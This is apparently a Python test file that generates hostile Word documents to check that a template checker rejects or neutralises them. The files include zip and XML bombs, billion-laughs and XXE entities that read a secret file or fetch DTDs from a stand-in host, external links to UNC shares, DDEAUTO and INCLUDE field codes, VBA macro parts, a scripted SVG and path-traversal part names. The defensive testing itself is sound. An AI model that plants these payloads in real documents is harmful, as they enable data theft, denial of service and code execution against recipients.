"""Word files made to do harm, handed over as a template: bombs, entities, ties to elsewhere, macros, odd names."""

import contextlib
import io
import re
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import partial
from pathlib import Path

from tests.documents.word import templates
from tests.documents.word.templates import W
from tests.hostile.confined import HOST, SECRET, Case
from wibdesk.cli import main
from wibdesk.documents.document import Document
from wibdesk.documents.styles import house_style
from wibdesk.documents.word.sample import sample_document
from wibdesk.documents.word.writer import write_docx

MAIN, RELATED, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PLACE = "<w:p><w:r><w:t>{{document}}</w:t></w:r></w:p>"
_MARKS = (HOST, SECRET, "vbaProject", "pwned", "evil")
"""What must be nowhere in a file that was written into a template."""


def load(folder: Path) -> None:
    """Write into a harmless template, so that all that is needed has been loaded."""
    write_docx(_into(templates.plain_template()), house_style(None))


def meet(path: Path) -> str:
    """Look at the file as the command line does; what can be a template is written into and looked through."""
    err, data = io.StringIO(), path.read_bytes()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["check-template", str(path)])
    with zipfile.ZipFile(io.BytesIO(write_docx(_into(data), house_style(None)))) as written:
        whole = b"\n".join((name.encode() + written.read(name)) for name in written.namelist()).decode("latin-1")
    found = [mark for mark in _MARKS if mark in whole or mark in whole.replace("\0", "")]
    assert not found, f"the document holds {found}"
    ties = [tie for tie in re.findall("<Relationship [^>]*External[^>]*>", whole) if 'Target="https:' not in tie]
    assert not ties, f"the document is tied to {ties}"
    return err.getvalue().strip() if code else ""


def _into(template: bytes) -> Document:
    return replace(sample_document(), template=template)


def cases() -> Iterator[Case]:
    """Yield every hostile Word file."""
    yield from _bombs()
    yield from _entities()
    yield from _ties()
    yield from _macros()
    yield from _archives()


def _bombs() -> Iterator[Case]:
    head, tail = _main("@").encode().split(b"@")
    paragraph = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    large = "is too large when unpacked"
    yield _case("one text of 500 MB", lambda: _streamed(MAIN, head, b"a" * 1_000_000, 500, tail), large)
    yield _case("elements of 200 MB", lambda: _streamed(MAIN, head, paragraph * 20_000, 290, tail), large)
    yield _case("elements of 60 MB", lambda: _streamed(MAIN, head, paragraph * 20_000, 87, tail), large)
    yield _case("elements of 10 MB", lambda: _streamed(MAIN, head, paragraph * 20_000, 15, tail), large)
    yield _case("as many elements as are read", lambda: _streamed(MAIN, head, paragraph * 1_000, 45, tail))
    yield _case("a picture of 1 GB", lambda: _streamed("word/media/b.png", b"", b"\0" * 1_000_000, 1000, b""), large)
    yield _case("a picture that unpacks", lambda: _streamed("word/media/b.png", b"", b"\0" * 1_000_000, 70, b""), large)
    yield _case("20,000 members", lambda: _more({f"word/media/x{n}": b"" for n in range(20_000)}), large)
    yield _case("100,000 members", lambda: _more({f"x{n}": b"" for n in range(100_000)}), large)
    for levels, said in ((200_000, large), (100_000, "is damaged")):
        deep = "<w:p>" + "<w:r>" * levels + "</w:r>" * levels + "</w:p>"
        yield _case(f"{levels} levels", lambda deep=deep: _body(deep), said)
    yield _case("250 levels", lambda: _body("<w:p>" + "<w:sdt>" * 240 + "</w:sdt>" * 240 + "</w:p>"))
    table = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{}"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    for span in ("30000000", "-1", "9" * 5000):
        yield _case(
            f"a cell as wide as {span[:9]}", lambda s=span: _body(table.format(s)), "holds what no Word file has"
        )
    yield _case("attributes", lambda: _body("<w:p " + " ".join(f'w:a{n}="1"' for n in range(20_000)) + "/>"))
    yield _case(
        "50,000 relations",
        lambda: _related(
            "".join(f'<Relationship Id="x{n}" Type="{OFFICE}/header" Target="header1.xml"/>' for n in range(50_000))
        ),
    )


def _entities() -> Iterator[Case]:
    odd = "holds what no Word file has"
    laughs = (
        '<!DOCTYPE l [<!ENTITY a "lollollollol">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    declared = {
        "laughs": (laughs, "&j;"),
        "quadratic": (f'<!DOCTYPE q [<!ENTITY a "{"A" * 50_000}">]>', "&a;" * 20_000),
        "a file": (f'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///{SECRET}">]>', "&x;"),
        "this file": (f'<!DOCTYPE x [<!ENTITY x SYSTEM "{SECRET}">]>', "&x;"),
        "a page": (f'<!DOCTYPE x [<!ENTITY x SYSTEM "http://{HOST}/x">]>', "&x;"),
        "a type elsewhere": (f'<!DOCTYPE x SYSTEM "http://{HOST}/x.dtd">', "x"),
        "a parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{HOST}/p.dtd"> %p;]>', "x"),
        "nothing": ("<!DOCTYPE x>", "x"),
    }
    for name, (doctype, words) in declared.items():
        text = _main(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>{PLACE}", doctype)
        yield _case(f"entities: {name}", lambda t=text: _smallest({MAIN: t}), odd)
    wide = _main(f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{PLACE}", declared["a file"][0])
    for code in ("utf-16-le", "utf-16-be"):
        data = wide.replace("UTF-8", "UTF-16").encode(code)
        mark = b"\xff\xfe" if code.endswith("le") else b"\xfe\xff"
        yield _case(f"entities in {code}", lambda d=mark + data: _smallest({MAIN: d}), odd)
    for part in (TYPES, RELATED, "docProps/core.xml", "word/styles.xml", "word/theme/theme1.xml"):

        def made(part: str = part) -> bytes:
            words = templates.parts(templates.plain_template())[part]
            return _changed({part: re.sub(r"^(<\?xml[^>]*>)?\s*", lambda m: m[0] + declared["a page"][0], words)})

        yield _case(f"entities in {part}", made, odd)
    hidden = _main(PLACE, declared["a page"][0])
    yield _case(
        "entities in a part of another ending",
        lambda: _smallest(
            {
                "word/h.bin": hidden.encode(),
                RELATED: _relations(_relation("header", "h.bin")),
                MAIN: _main(f'{PLACE}<w:sectPr><w:headerReference w:type="default" r:id="rX"/></w:sectPr>'),
            }
        ),
        "put together",
    )


def _ties() -> Iterator[Case]:
    address = f"http://{HOST}/x"
    yield _case(
        "a template elsewhere",
        lambda: _smallest(
            {
                "word/settings.xml": _settings('<w:attachedTemplate r:id="rX"/>'),
                "word/_rels/settings.xml.rels": _relations(_relation("attachedTemplate", address)),
                RELATED: _relations(_relation("settings", "settings.xml")),
                MAIN: _main(PLACE),
            }
        ),
    )
    shown = {
        "a picture": ("image", '<w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="rX"/></w:drawing></w:r>'),
        "a link to a share": ("hyperlink", '<w:hyperlink r:id="rX"><w:r><w:t>here</w:t></w:r></w:hyperlink>'),
        "an object": ("oleObject", '<w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="rX"/></w:object></w:r>'),
        "a chunk": ("aFChunk", '<w:altChunk r:id="rX"/>'),
        "a frame": ("frame", '<w:r><w:pict r:id="rX"/></w:r>'),
        "a sub-document": ("subDocument", '<w:subDoc r:id="rX"/>'),
    }
    for name, (kind, element) in shown.items():
        for target in (f"file://{HOST}/share/x", f"\\\\{HOST}\\share\\x", address):
            if kind != "hyperlink" or target != address:
                made = partial(_tied, kind, target, element)
                yield _case(f"{name} at {target}", made)
    fields = ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "LINK", "IMPORT", "INCLUDE", "HYPERLINK", "AUTOTEXTLIST")
    for field in fields:
        code = f' {field} "\\\\\\\\{HOST}\\\\x" '
        yield _case(f"field {field}", lambda c=code: _body(_field(c) + PLACE))
        yield _case(f"field {field} in pieces", lambda c=code: _body(_field(c[:4], c[4:]) + PLACE))
        yield _case(
            f"field {field} in one",
            lambda c=code: _body(f"<w:p><w:fldSimple w:instr='{c}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>{PLACE}"),
        )
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="{0}">'
        '<v:imagedata src="{0}" xmlns:o="urn:schemas-microsoft-com:office:office" o:href="{0}"/></v:shape></w:pict>'
        "</w:r></w:p>"
    )
    yield _case("an old drawing elsewhere", lambda: _body(vml.format(address) + PLACE))
    yield _case(
        "mail merge",
        lambda: _smallest(
            {
                "word/settings.xml": _settings(f'<w:mailMerge><w:query w:val="{HOST}"/></w:mailMerge>'),
                RELATED: _relations(_relation("settings", "settings.xml")),
                MAIN: _main(PLACE),
            }
        ),
    )
    yield _case(
        "a program for a picture",
        lambda: _smallest(
            {
                "word/media/evil.exe": b"MZ",
                RELATED: _relations(_relation("image", "media/evil.exe")),
                MAIN: _main(f"<w:p>{shown['a picture'][1].replace('r:link', 'r:embed')}</w:p>{PLACE}"),
            }
        ),
    )
    drawn = f'<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script><image href="{address}"/></svg>'
    yield _case(
        "a drawing that runs",
        lambda: _smallest(
            {
                "word/media/d.svg": drawn,
                RELATED: _relations(_relation("image", "media/d.svg")),
                TYPES: templates.parts(templates.smallest())[TYPES].replace(
                    "<Override", '<Default Extension="svg" ContentType="image/svg+xml"/><Override', 1
                ),
                MAIN: _main(f"<w:p>{shown['a picture'][1].replace('r:link', 'r:embed')}</w:p>{PLACE}"),
            }
        ),
    )


def _macros() -> Iterator[Case]:
    macros = "holds macros"
    for kind in ("document.macroEnabled.main+xml", "template.macroEnabledTemplate.main+xml"):
        yield _case(
            kind,
            lambda k=kind: _changed(
                {TYPES: templates.parts(templates.plain_template())[TYPES].replace("document.main+xml", k)}
            ),
            macros,
        )
    vba = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}
    relation = '<Relationship Id="rX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" {}/>'
    there = relation.format('Target="vbaProject.bin"')
    yield _case("macros in a plain file", lambda: _related(there, vba), macros)
    yield _case(
        "macros elsewhere",
        lambda: _related(relation.format(f'Target="http://{HOST}/v.bin" TargetMode="External"')),
        macros,
    )
    yield _case(
        "macros under another name",
        lambda: _related(there.replace("vbaProject.bin", "evil.xml"), {"word/evil.xml": b"<a/>"}),
        macros,
    )


def _archives() -> Iterator[Case]:
    odd = "has parts with names that no Word file has"
    names = (
        "../../../../pwned.txt",
        "/../pwned",
        "C:\\pwned.txt",
        "word\\pwned.xml",
        "word/pwned:stream",
        "word/a\n.xml",
        "word/\u202epwned",
        "word/CON",
        "word/aux.xml",
        "\\\\evil.example\\share\\x",
        "word/./pwned",
        "~/pwned",
        "x" * 70,
    )
    for name in names[:-2]:
        yield _case(f"a part named {name!r}", lambda n=name: _more({n: b"x"}), odd)
    yield _case("a name of 60,000 letters", lambda: _more({"word/" + "x" * 60_000: b"x"}), odd)
    yield _case("one part twice", lambda: _twice(MAIN), odd)
    yield _case("one part twice in other letters", lambda: _more({"WORD/Document.xml": b"<evil/>"}), odd)
    plain = templates.plain_template()
    for name, data in {
        "cut short": plain[: len(plain) // 2],
        "empty": b"",
        "a page": b"<html><script>1</script></html>",
        "noughts": b"\0" * 1_000_000,
        "words": b"Minutes of the meeting",
        "only its end": plain[-22:],
        "rich text": b"{\\rtf1\\object{\\*\\objdata evil}}",
    }.items():
        yield _case(name, lambda d=data: d, "is not a Word file")
    yield _case("an old Word file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, "password")
    yield _case("no main part", lambda: _changed({MAIN: None}), "is not a Word file")
    yield _case("more than 10 MB", lambda: plain + b"\0" * 10_500_000, "larger than 10 MB")
    strange = "\u202egnp.exe\u202c \u200b&#x1F4A9;"
    yield _case("letters that hide", lambda: _body(f"<w:p><w:r><w:t>{strange}</w:t></w:r></w:p>{PLACE}"))


def _case(name: str, made: Callable[[], bytes], said: str | None = None) -> Case:
    return Case(name, "house.docx", made, said)


def _main(body: str, doctype: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
        f'<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
    )


def _body(body: str) -> bytes:
    return _smallest({MAIN: _main(body)})


def _field(*codes: str) -> str:
    said = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"<w:p>{begin}{said}{middle}<w:r><w:t>x</w:t></w:r>{end}</w:p>"


def _settings(inside: str) -> str:
    return f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}">{inside}</w:settings>'


def _relation(kind: str, target: str) -> str:
    outside = ' TargetMode="External"' if ":" in target or target.startswith("\\") else ""
    return f'<Relationship Id="rX" Type="{OFFICE}/{kind}" Target="{target}"{outside}/>'


def _relations(inside: str) -> str:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def _tied(kind: str, target: str, element: str) -> bytes:
    return _smallest({RELATED: _relations(_relation(kind, target)), MAIN: _main(f"<w:p>{element}</w:p>{PLACE}")})


def _related(relation: str, more: Mapping[str, bytes] | None = None) -> bytes:
    words = templates.parts(templates.plain_template())[RELATED].replace(
        "</Relationships>", f"{relation}</Relationships>"
    )
    return _changed({RELATED: words, **(more or {})})


def _smallest(parts: Mapping[str, str | bytes]) -> bytes:
    return _changed(parts, templates.smallest())


def _more(parts: Mapping[str, bytes]) -> bytes:
    return _changed(parts)


def _changed(parts: Mapping[str, str | bytes | None], data: bytes | None = None) -> bytes:
    """Return a file with parts changed, added, or taken out where they are None."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data or templates.plain_template())) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def _streamed(part: str, head: bytes, unit: bytes, number: int, tail: bytes) -> bytes:
    """Return a file with one enormous part, which is never whole in the memory here."""
    out = io.BytesIO(_changed({part: None}))
    with zipfile.ZipFile(out, "a", 8) as package, package.open(part, "w", force_zip64=True) as there:
        there.write(head)
        for _ in range(number):
            there.write(unit)
        there.write(tail)
    return out.getvalue()


def _twice(part: str) -> bytes:
    out = io.BytesIO(templates.plain_template())
    with zipfile.ZipFile(out, "a", 8) as package, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        package.writestr(part, _main("<w:p><w:r><w:t>evil</w:t></w:r></w:p>" + PLACE))
    return out.getvalue()
